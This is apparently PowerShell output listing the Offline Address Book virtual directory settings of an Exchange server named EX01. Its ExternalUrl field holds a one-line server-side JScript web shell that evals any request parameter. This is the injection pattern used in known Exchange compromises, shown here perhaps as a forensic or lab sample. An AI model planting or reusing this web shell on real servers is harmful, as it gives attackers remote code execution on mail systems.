Name                            : OAB (Default Web Site)
PollInterval                    : 480
OfflineAddressBooks             : \Default Offline Address Book
RequireSSL                      : True
BasicAuthentication             : False
WindowsAuthentication           : True
OAuthAuthentication             : True
InternalUrl                     : https://ex01.contoso.local/OAB
ExternalUrl                     : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["exray_sample"],"unsafe");}</script>
AdminDisplayVersion             : Version 15.1 (Build 2176.2)
Server                          : EX01
